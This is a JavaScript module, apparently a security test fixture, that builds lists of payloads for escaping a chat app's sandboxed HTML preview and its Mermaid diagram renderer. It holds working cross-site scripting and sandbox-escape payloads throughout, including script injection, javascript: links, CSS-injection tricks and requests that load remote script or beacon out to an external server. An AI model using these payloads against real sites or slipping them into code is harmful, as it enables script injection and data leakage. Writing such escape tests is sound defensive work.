/** Ways out of the preview's frame: each is a page that tries one, by markup or by script. `E` is a
 * server elsewhere, `S` the chat's own; `hit()` would be heard by the page around it. */

/** @param {string} E @param {string} S @returns {string[]} */
export function escapes(E, S) {
    const script = (code) => `<script>try{${code}}catch(e){}</script>`;
    const rtc = `const p=new RTCPeerConnection({iceServers:[{urls:"stun:${new URL(E).host}"}]});p.createDataChannel("x");p.createOffer().then(o=>p.setLocalDescription(o))`;
    const late = (code) => `<script>(async()=>{try{${code}}catch(e){}})()</script>`;
    return [
        // ---- the page around it ----
        script('parent.hit=1'), script('top.hit=1'), script('parent.document.body.textContent="hit"'), script('top.document.title="hit"'),
        script('frameElement.removeAttribute("sandbox")'), script('parent.localStorage.setItem("hit","1")'), script(`top.location="${E}?top"`),
        script(`parent.location.href="${E}?parent"`), script('top.location.hash="#hit"'), script(`window.open("${E}?popup")`), script('window.open("about:blank").opener.hit=1'),
        script('parent.eval("hit=1")'), script('parent.postMessage({type:"response.created"},"*")'), script('for(let i=0;i<50;i++)parent.postMessage("ready","*")'),
        `<a id=a target=_top href="${E}?top-link">x</a>${script('a.click()')}`, `<a id=a target=_blank href="${E}?blank">x</a>${script('a.click()')}`,
        `<a id=a download=x href="data:text/plain,hit">x</a>${script('a.click()')}`, `<base href="${E}" target=_top><a id=a href=x>x</a>${script('a.click()')}`,
        script('alert(1);confirm(1);prompt(1);print()'), script('document.documentElement.requestFullscreen().then(()=>parent.postMessage("hit","*"))'),
        script('history.pushState({},"","/hit")'), script('document.domain="127.0.0.1"'),
        // ---- storage of the chat ----
        script('localStorage.setItem("hit",1)'), script('sessionStorage.setItem("hit",1)'), script('document.cookie="hit=1"'), script('indexedDB.open("parley").onsuccess=()=>parent.postMessage("hit","*")'),
        late('await caches.open("hit")'), script('new BroadcastChannel("parley").postMessage("hit")'), late('await navigator.serviceWorker.register("/js/start.js")'), late('await navigator.storage.getDirectory();parent.postMessage("hit","*")'),
        late('await navigator.locks.request("parley",()=>parent.postMessage("hit","*"))'),
        // ---- the network ----
        late(`await fetch("${E}?fetch",{mode:"no-cors"})`), late(`await fetch("${S}v1/models")`), script(`const x=new XMLHttpRequest();x.open("GET","${E}?xhr");x.send()`), script(`new WebSocket("${E}".replace("http","ws"))`),
        script(`new EventSource("${E}?events")`), script(`navigator.sendBeacon("${E}?beacon","x")`), script(`new Image().src="${E}?image"`), `<img src="${E}?img">`, `<img srcset="${E}?srcset 1x">`, `<picture><source srcset="${E}?source"><img></picture>`,
        `<link rel=stylesheet href="${E}?css">`, `<style>@import "${E}?import";body{background:url(${E}?background)}</style>`, `<style>@font-face{font-family:f;src:url(${E}?font)}body{font-family:f}</style>x`,
        `<script src="${E}?script"></script>`, `<script type=module>import "${E}?module"</script>`, late(`await import("${E}?dynamic")`), `<video src="${E}?video" autoplay></video><audio src="${E}?audio" autoplay></audio>`, `<object data="${E}?object"></object><embed src="${E}?embed">`,
        `<link rel=prefetch href="${E}?prefetch"><link rel=preload as=image href="${E}?preload"><link rel=modulepreload href="${E}?modulepreload">`, `<link rel=icon href="${E}?icon"><link rel=manifest href="${E}?manifest">`,
        `<svg><image href="${E}?svg-image" /><use href="${E}?use#x" /></svg>`, `<form id=f action="${E}?form" method=post></form>${script('f.submit()')}`, `<form id=f action="${E}?form-top" target=_top></form>${script('f.submit()')}`, `<input type=image src="${E}?input"><body background="${E}?body">`,
        script(rtc), `<iframe srcdoc='<script>${rtc}</script>'></iframe>`, script(`document.body.innerHTML="<ifr"+"ame srcdoc='<script>${rtc.replaceAll('"', '&quot;')}<\\/script>'></iframe>"`),
        script(`document.write('<ifr');document.write("ame src='${E}?halves'></iframe>")`), script(`class X extends Object.getPrototypeOf(document.createElement("embed")).constructor{};customElements.define("x-i",X,{extends:"iframe"});document.body.append(new X())`),
        script(`RegExp.prototype.test=String.prototype.replace=Set.prototype.has=()=>false;const f=document.createElement("iframe");f.src="${E}?tampered";document.documentElement.append(f)`),
        script(`const f=document.createElementNS("http://www.w3.org/1999/xhtml","h:iframe");f.src="${E}?prefix";document.documentElement.append(f)`), `<script type=speculationrules>{"prefetch":[{"urls":["${E}?speculation"]}]}</script>`,
        `<a ping="${E}?ping" href="#x" id=a>x</a>${script('a.click()')}`, script(`document.head.append(Object.assign(document.createElement("link"),{rel:"preconnect",href:"${E}"}))`),
        // ---- other pages and workers ----
        `<iframe src="${E}?frame"></iframe>`, `<iframe src="${S}"></iframe>`, `<iframe srcdoc="<script>top.hit=1</script>"></iframe>`, `<iframe src="data:text/html,<script>top.hit=1</script>"></iframe>`, `<iframe src="javascript:top.hit=1"></iframe>`,
        script('const f=document.body?.appendChild(document.createElement("iframe"));f.contentWindow.parent.parent.hit=1'), script(`location="${E}?self"`), script('location="data:text/html,<script>top.hit=1</script>"'), script('location="javascript:top.hit=1"'),
        script('location=URL.createObjectURL(new Blob(["<script>top.hit=1</script>"],{type:"text/html"}))'), `<meta http-equiv=refresh content="0;url=${E}?refresh">`, `<meta http-equiv=Content-Security-Policy content="default-src *"><img src="${E}?policy">`,
        script('new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).onmessage=()=>parent.postMessage("hit","*")'), script(`new Worker("data:text/javascript,fetch('${E}?worker')")`), script(`new SharedWorker("${S}js/start.js")`),
    ];
}

/** The same ways, and those that only a diagram has: Mermaid's directives, links, labels and images.
 * @param {string} E @param {string} S @returns {string[]} */
export function diagrams(E, S) {
    const label = (text) => text.replace(/\s+/g, ' ').replaceAll('#', '#35;').replaceAll('"', text.includes("'") ? '#quot;' : "'");
    const all = escapes(E, S);
    const LABELS = 10; // in one diagram
    const labelled = [];
    for (let i = 0; i < all.length; i += LABELS) labelled.push(`flowchart TD\n${all.slice(i, i + LABELS).map((one, n) => `N${n}["${label(one)}"] --> N${n + 1}`).join('\n')}`);
    const loose = '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}, "secure": []}}%%\n';
    const css = `@import url(${E}?d-import); * { background: url(${E}?d-css) } @font-face { font-family: f; src: url(${E}?d-font) }`;
    return [
        ...labelled.map((one) => loose + one),
        `flowchart TD\nA --> B\nclick A "javascript:top.hit=1"\nclick B href "${E}?d-link" _top`,
        `${loose}flowchart TD\nA --> B\nclick A call parent.postMessage("hit")\nclick B href "javascript:top.hit=1" _blank`,
        `${loose}flowchart TD\nA["<img src=x onerror='parent.postMessage(&quot;hit&quot;,&quot;*&quot;);fetch(&quot;${E}?d-error&quot;)'>"]`,
        `%%{init: {"themeCSS": "${css}"}}%%\nflowchart TD\nA --> B`, `---\nconfig:\n  themeCSS: "${css}"\n  securityLevel: sandbox\n---\nflowchart TD\nA --> B`,
        `%%{init: {"fontFamily": "x;} </style><img src=${E}?d-family><style>", "themeVariables": {"fontFamily": "url(${E}?d-theme)", "primaryColor": "red;} * {background: url(${E}?d-colour)"}}}%%\nflowchart TD\nA --> B`,
        `flowchart TD\nA@{ img: "${E}?d-image", label: "x", w: 60, h: 60 }`, `flowchart TD\nA@{ icon: "${E}?d-icon", label: "x" }`, `flowchart TD\nA --> B\nstyle A fill:url(${E}?d-style)\nclassDef c fill:url(${E}?d-class)\nclass B c`,
        `sequenceDiagram\nparticipant A\nlink A: Top @ ${E}?d-sequence\nlinks A: {"x": "javascript:top.hit=1"}\nA->>A: <img src=${E}?d-text>`,
        `gantt\ndateFormat YYYY-MM-DD\nsection <b>x</b>\nT :a, 2024-01-01, 3d\nclick a href "javascript:top.hit=1"\nclick a call top.hit()`,
        `classDiagram\nclass A\nlink A "${E}?d-of-class" "x"\ncallback A "top.hit" "x"\nclick A href "javascript:top.hit=1"`,
        `C4Context\nPerson(a, "x", "y", $sprite="${E}?d-sprite", $link="javascript:top.hit=1")`, `journey\ntitle <script>top.hit=1</script>\nsection x\n<img src=${E}?d-task>: 5: Me`,
        `flowchart TD\nA["$$\\href{javascript:top.hit=1}{x} \\includegraphics{${E}?d-formula}$$"]`, `mindmap\n  root((<img src=${E}?d-mind>))\n    ::icon(url(${E}?d-mind-icon))`,
        `stateDiagram-v2\n[*] --> A : <iframe src=${E}?d-state></iframe>\nclick A "${E}?d-state-link" "x"`, `erDiagram\nA ||--o{ B : "<img src=${E}?d-er>"`, `pie title <img src=${E}?d-pie>\n"<script>top.hit=1</script>" : 1`,
        `</script><script>top.hit=1;fetch("${E}?d-end")</script>`, `flowchart TD\nA["</script><script>parent.postMessage('hit','*')</script>"]`,
    ];
}
